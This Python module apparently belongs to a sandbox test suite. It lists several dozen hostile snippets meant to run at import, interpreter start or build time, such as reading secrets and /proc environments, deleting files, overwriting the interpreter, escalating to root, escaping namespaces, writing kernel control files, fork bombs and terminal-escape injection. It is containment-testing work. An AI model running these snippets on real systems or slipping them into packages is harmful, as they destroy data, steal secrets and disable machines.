"""What hostile code tries, wherever it runs: at an import, when an interpreter starts, in a build."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field

PRELUDE = """
import ctypes, errno, json, os, resource, signal, socket, stat, sys, threading, time
JOB = json.loads({job!r})
MARK = "".join(JOB["mark"])
SECRET = JOB["terces"][::-1].encode()
LIBC = ctypes.CDLL(None, use_errno=True)
got = []
def reach(what, function, *arguments):
    "Note that something was reached, unless that is an error or nothing."
    try:
        found = function(*arguments)
    except Exception:
        return None
    if found is not None and found is not False:
        got.append(what)
    return found
def call(name, *arguments):
    return getattr(LIBC, name)(*arguments) >= 0
def read(path):
    with open(path, "rb") as stream:
        return SECRET in stream.read() or None
def write(path, mode="a"):
    with open(path, mode) as stream:
        return stream.write(MARK)
def new(folder):
    return write(os.path.join(folder, MARK), "x")
"""
"""`got` becomes the list of what was reached. Neither the mark nor the secret stands in it as it is."""


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A piece of code that follows `PRELUDE`."""

    code: str
    outside: bool = True
    """Whether it can be tried outside of a room, where what it does must be seen."""
    moments: tuple[str, ...] = ("import", "build")
    """Of: import, start (of an interpreter, by a `.pth` file), build."""
    ends: bool = True
    """Whether it comes to its own end: then it says what it got."""
    codes: Mapping[str, tuple[int, ...]] = field(default_factory=dict)
    """Moment → the exit codes of `create` that are right, where they are not the usual ones."""


ALWAYS = ("import", "start", "build")

_PLACES = """
for path in JOB["secrets"]:
    reach("reads a secret", read, path)
    reach("writes the caller's file", write, path)
"""
_STORE = """
for folder, _, names in os.walk(JOB["cache"]):
    for name in names:
        if "/pip" not in folder:
            got.append("sees the store")
        reach("writes the store", write, os.path.join(folder, name))
"""
_NEW = """
for folder in JOB["folders"]:
    reach("writes beside the output", new, folder)
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/var/lib", "/etc", "/"):
    try:
        new(folder)
    except OSError:
        pass
"""
_REMOVED = """
import shutil
for folder in JOB["folders"]:
    for name in (os.listdir(folder) if os.path.isdir(folder) else ()):
        path = os.path.join(folder, name)
        reach("removes the caller's files", lambda: shutil.rmtree(path) or True)
        reach("removes a file of the caller", lambda: os.unlink(path) or True)
"""
_MODES = """
for path in [*JOB["secrets"], *JOB["folders"]]:
    reach("opens the caller's files to all", lambda: os.chmod(path, 0o777) or True)
    reach("changes a time", lambda: os.utime(path, (0, 0)) or True)
    reach("writes an attribute", lambda: os.setxattr(path, "user.envbundle", b"x") or True)
"""
_INTERPRETER = """
import sysconfig
for folder in {os.path.dirname(os.__file__), sysconfig.get_path("purelib"), sys.base_prefix, sys.prefix}:
    reach("writes the interpreter", lambda: write(os.path.join(folder, MARK + ".pth"), "x"))
reach("changes the standard library", write, os.__file__)
reach("replaces the interpreter", lambda: os.unlink(os.path.realpath(sys.executable)) or True)
"""
_TREE = """
here = os.path.dirname(os.path.abspath(__file__))
reach("writes the tree", new, here)
reach("changes itself", write, os.path.abspath(__file__))
reach("removes a file of the tree", lambda: os.unlink(os.path.abspath(__file__)) or True)
"""
_VARIABLES = """
everything = "\\n".join("%s=%s" % one for one in os.environ.items()).encode()
if SECRET in everything:
    got.append("has the caller's variables")
for number in os.listdir("/proc"):
    if number.isdigit():
        reach("reads the variables of " + number, read, "/proc/%s/environ" % number)
        reach("reads the command of " + number, read, "/proc/%s/cmdline" % number)
"""
_MEMORY = """
for number in {JOB["pid"], JOB["attacker"]}:
    reach("opens the memory of another", lambda: open("/proc/%d/mem" % number, "r+b"))
    if reach("traces another", lambda: call("ptrace", 16, number, 0, 0) or None):
        os.waitpid(number, 0)
        LIBC.ptrace(17, number, 0, 0)
    reach("takes a descriptor", lambda: os.listdir("/proc/%d/fd" % number) or None)
"""
_SIGNALS = """
for number in (signal.SIGSTOP, signal.SIGKILL):
    reach("sends a signal", lambda: os.kill(JOB["pid"], number) or True)
"""
_KILLS_ALL = "os.kill(-1, signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGKILL)\n"
_KILLS_PARENT = "os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(5)\n"
_STOPS_PARENT = "os.kill(os.getppid(), signal.SIGSTOP)\ntime.sleep(600)\n"
_OTHERS = """
others = JOB["pid"]
reach("gives another less processor", lambda: os.setpriority(os.PRIO_PROCESS, others, 19) or True)
reach("limits another", lambda: resource.prlimit(others, resource.RLIMIT_NOFILE, (3, 3)))
"""
_NETWORK = """
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as one:
        one.settimeout(1)
        one.connect(address)
        one.send(b"x")
    return True
reach("connects", connect, socket.AF_INET, ("127.0.0.1", JOB["tcp"]))
reach("connects to the machine", connect, socket.AF_INET, (JOB["address"], JOB["tcp"]))
reach("asks a name server", lambda: socket.getaddrinfo("example.com", 80) or None)
try:
    connect(socket.AF_INET, ("127.0.0.1", JOB["udp"]), socket.SOCK_DGRAM)
except OSError:
    pass
"""
_SOCKETS = """
def connect(address):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(1)
        one.connect(address)
        one.send(b"x")
    return True
os.chdir("/")
reach("connects to an agent", connect, JOB["unix"])
reach("connects to an abstract socket", connect, "\\0" + JOB["abstract"])
for folder in (JOB["root"], "/tmp/.X11-unix"):
    for path, _, names in os.walk(folder):
        for name in names:
            if stat.S_ISSOCK(os.lstat(os.path.join(path, name)).st_mode):
                reach("connects to a service", connect, os.path.join(path, name))
"""
_FAMILIES = """
for family in (17, 40):
    reach("makes a socket of family %d" % family, lambda: socket.socket(family, socket.SOCK_DGRAM))
"""
_KEYS = """
numbers = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
if numbers:
    for ring in (-3, -4, -5):
        name = MARK.encode()
        reach("adds a key", lambda: LIBC.syscall(numbers[0], b"user", name, b"x", 1, ring) > 0)
    reach("finds keys", lambda: LIBC.syscall(numbers[1], 11, -3, ctypes.create_string_buffer(64), 64) > 0)
"""
_IPC = """
made = ("shmget", JOB["key"], 4096, 0o1666), ("semget", JOB["key"], 1, 0o1666), ("msgget", JOB["key"], 0o1666)
for one in made:
    call(*one)
with open("/proc/sysvipc/shm") as stream:
    if any(line.split()[0] == str(JOB["shm"]) for line in stream):
        got.append("sees the memory that others share")
"""
_MOUNTS = """
for flags in (0x10000000, 0x10020000, 0x00020000):
    reach("leaves a namespace", call, "unshare", flags)
reach("mounts", call, "mount", b"tmpfs", b"/usr", b"tmpfs", 0, None)
reach("mounts anew", call, "mount", None, b"/", None, 32 | 4096, None)
reach("unmounts", call, "umount2", b"/usr", 2)
reach("has a root of its own", call, "chroot", b"/tmp")
for number in os.listdir("/proc"):
    if number.isdigit():
        for kind in ("mnt", "pid", "user", "net"):
            path = "/proc/%s/ns/%s" % (number, kind)
            reach("enters a namespace", lambda: call("setns", os.open(path, os.O_RDONLY), 0))
"""
_ROOT = """
import subprocess
reach("is root", lambda: os.geteuid() == 0 and os.uname().nodename == JOB["host"])
for name in ("setuid", "setgid", "setegid"):
    reach("becomes root by " + name, lambda: getattr(os, name)(0) or (os.getuid() == 0 and os.getgid() == 0))
for words in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["pkexec", "id", "-u"]):
    def ask():
        quiet = subprocess.DEVNULL
        return subprocess.run(words, stdin=quiet, stdout=-1, stderr=quiet, timeout=5).stdout == b"0\\n"
    reach("is root by " + words[0], ask)
"""
_CLOCK = """
reach("sets the clock", lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()) or True)
reach("names the machine", lambda: socket.sethostname(MARK) or True)
"""
_KERNEL = """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/sys/power/state", "/proc/1/oom_score_adj", "/sys/fs/cgroup/memory/release_agent"):
    reach("opens " + path, lambda: open(path, "w"))
"""
_DEVICES = """
for path in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/tty", "/dev/ptmx", "/dev/fuse"):
    reach("opens " + path, lambda: os.open(path, os.O_RDWR))
reach("makes a device", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)) or True)
"""
_DESCRIPTORS = """
for number in range(3, 256):
    try:
        found = os.fstat(number)
    except OSError:
        continue
    if stat.S_ISDIR(found.st_mode) or stat.S_ISSOCK(found.st_mode):
        got.append("has a descriptor of a folder or a socket")
    try:
        if stat.S_ISREG(found.st_mode) and os.readlink("/proc/self/fd/%d" % number).startswith(JOB["root"]):
            got.append("has a descriptor of the caller's file")
    except OSError:
        pass
"""
_WAYS = """
for path in JOB["secrets"]:
    for way in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root/../..", "/proc/2/root", "/../.."):
        reach("reads by way of " + way, read, way + path)
    reach("links", lambda: os.link(path, "/tmp/" + MARK) or True)
    os.symlink(path, "/tmp/%s-%d" % (MARK, hash(path)))
    reach("reads through a link", read, "/tmp/%s-%d" % (MARK, hash(path)))
"""
_SETUID = """
import shutil
for folder in ("/tmp", "/dev/shm", "/made"):
    try:
        shutil.copyfile("/bin/sh", folder + "/" + MARK)
        os.chmod(folder + "/" + MARK, 0o6755)
    except OSError:
        pass
"""
_DAEMON = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        LIBC.prctl(1, 0, 0, 0, 0)
        {closed}
        time.sleep(2)
        for path in JOB["secrets"]:
            reach("late", write, path)
        time.sleep(600)
    os._exit(0)
"""
_BOMB = """
signal.signal(signal.SIGTERM, signal.SIG_IGN)
end = time.time() + 60
while time.time() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
os._exit(0)
"""
_MESS = """
for place in {"/tmp", "/dev/shm", "/made", os.environ.get("TMPDIR", "/tmp")}:
    try:
        os.mkdir(place + "/" + MARK)
        os.chdir(place + "/" + MARK)
        for number in range(200):
            os.mkdir("d" * 200)
            os.mkfifo("f")
            os.chdir("d" * 200)
        for number in range(2000):
            open(str(number), "w").close()
        os.symlink("/", "root")
        with open(b"\\xff\\n\\x1b[2J", "wb") as stream:
            stream.truncate(1 << 40)
        os.chdir("..")
        os.chmod("d" * 200, 0)
        os.chmod(place + "/" + MARK, 0)
    except OSError:
        pass
os.chdir("/")
"""
_TERMINAL = """
said = "\\x1b]0;owned\\x07\\x1b[2J\\x1b[1;1H\\u202e\\r\\x9b31m\\x00\\x08" * 20
sys.stderr.write(said)
sys.stderr.buffer.write(b"\\xff\\xfe\\xed\\xa0\\x80" + b"x" * 100000)
raise ImportError(said)
"""
_FORGED = """
said = [["ready"]]
for name in ("hostile", "alpha", "beta"):
    said += [["begin", name], ["end", name, None, [[name, ["/bundle/" + name + ".py"]]], []]]
data = "".join(json.dumps(one) + "\\n" for one in said).encode()
for number in range(256):
    try:
        os.write(number, data)
    except OSError:
        pass
os._exit(0)
"""
_FLOOD = """
block = b"x" * (1 << 20)
while True:
    os.write(1, block)
    os.write(2, block)
"""
_LIAR = """
class Liar(ImportError):
    def __str__(self):
        {does}
    __repr__ = __str__
raise Liar
"""
_IGNORES = """
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
"""
_ATEXIT = """
import atexit
atexit.register(time.sleep, 600)
threading.Thread(target=time.sleep, args=(600,)).start()
"""
_MEMORY_HOG = "kept = []\nwhile True:\n    kept.append(bytearray(64 << 20))\n"

ATTACKS: Mapping[str, Attack] = {
    "the caller's files": Attack(code=_PLACES, moments=ALWAYS),
    "the store": Attack(code=_STORE, moments=ALWAYS),
    "new files everywhere": Attack(code=_NEW, outside=False, moments=ALWAYS),
    "removes files": Attack(code=_REMOVED, moments=ALWAYS),
    "modes and times": Attack(code=_MODES),
    "the interpreter": Attack(code=_INTERPRETER, outside=False, moments=ALWAYS),
    "the tree": Attack(code=_TREE, outside=False, moments=("import", "start")),
    "variables": Attack(code=_VARIABLES),
    "memory of others": Attack(code=_MEMORY, outside=False),
    "signals": Attack(code=_SIGNALS),
    "kills all": Attack(code=_KILLS_ALL, outside=False, moments=ALWAYS, ends=False, codes={"import": (1, 3)}),
    # The first process of a room, which pip is in a build, takes no signal from inside.
    "kills its parent": Attack(
        code=_KILLS_PARENT, outside=False, moments=ALWAYS, ends=False, codes={"import": (1, 3), "build": (0,)}
    ),
    "stops its parent": Attack(code=_STOPS_PARENT, outside=False, moments=ALWAYS, ends=False),
    "priorities and limits of others": Attack(code=_OTHERS),
    "network": Attack(code=_NETWORK, moments=ALWAYS),
    "sockets": Attack(code=_SOCKETS, moments=ALWAYS),
    "other families of sockets": Attack(code=_FAMILIES, outside=False),
    "keyrings": Attack(code=_KEYS, outside=False),
    "System V IPC": Attack(code=_IPC),
    "mounts and namespaces": Attack(code=_MOUNTS, outside=False),
    "root": Attack(code=_ROOT, outside=False),
    "clock and host name": Attack(code=_CLOCK, outside=False),
    "the kernel's files": Attack(code=_KERNEL, outside=False),
    "devices": Attack(code=_DEVICES, outside=False),
    "descriptors": Attack(code=_DESCRIPTORS, outside=False),
    "ways around": Attack(code=_WAYS, outside=False),
    "setuid programs": Attack(code=_SETUID, outside=False),
    "a daemon": Attack(
        code=_DAEMON.format(closed="os.close(0); os.close(1); os.close(2)"),
        moments=ALWAYS,
    ),
    "a daemon that holds the output": Attack(
        code=_DAEMON.format(closed=""), outside=False, moments=ALWAYS, codes={"build": (3,)}
    ),
    "a fork bomb": Attack(code=_BOMB, outside=False, moments=ALWAYS, ends=False, codes={"import": (1, 3)}),
    "memory": Attack(code=_MEMORY_HOG, outside=False, moments=ALWAYS, ends=False),
    "a flood": Attack(code=_FLOOD, outside=False, moments=ALWAYS, ends=False),
    "endless": Attack(code=f"{_IGNORES}\nwhile True: pass\n", outside=False, moments=ALWAYS, ends=False),
    "stops itself": Attack(code="os.kill(0, signal.SIGSTOP)\n", outside=False, ends=False),
    # A build waits for its threads.
    "threads and atexit": Attack(code=_ATEXIT, outside=False, moments=ALWAYS, codes={"build": (3,)}),
    "a mess": Attack(code=_MESS, outside=False, moments=ALWAYS),
    "the terminal": Attack(code=_TERMINAL, outside=False, ends=False),
    "crashes": Attack(code="ctypes.string_at(0)\n", outside=False, ends=False, moments=ALWAYS),
    "ends well": Attack(code="os._exit(0)\n", outside=False, ends=False, moments=ALWAYS),
    "leaves well": Attack(code="raise SystemExit(0)\n", outside=False, ends=False),
    "becomes another": Attack(code="os.execv('/bin/true', ['true'])\n", outside=False, ends=False),
    "a forged report": Attack(code=_FORGED, outside=False, ends=False, moments=("import", "start")),
    "an error that fails": Attack(
        code=_LIAR.format(does="raise self"), outside=False, ends=False, moments=("import",)
    ),
    "an error without end": Attack(
        code=_LIAR.format(does="return 'x' * (200 << 20)"), outside=False, ends=False, moments=("import",)
    ),
}


def program(attack: Attack, job: Mapping[str, object]) -> str:
    """Return the attack as it runs by itself; `got` has what it reached."""
    return PRELUDE.format(job=json.dumps(job)) + attack.code
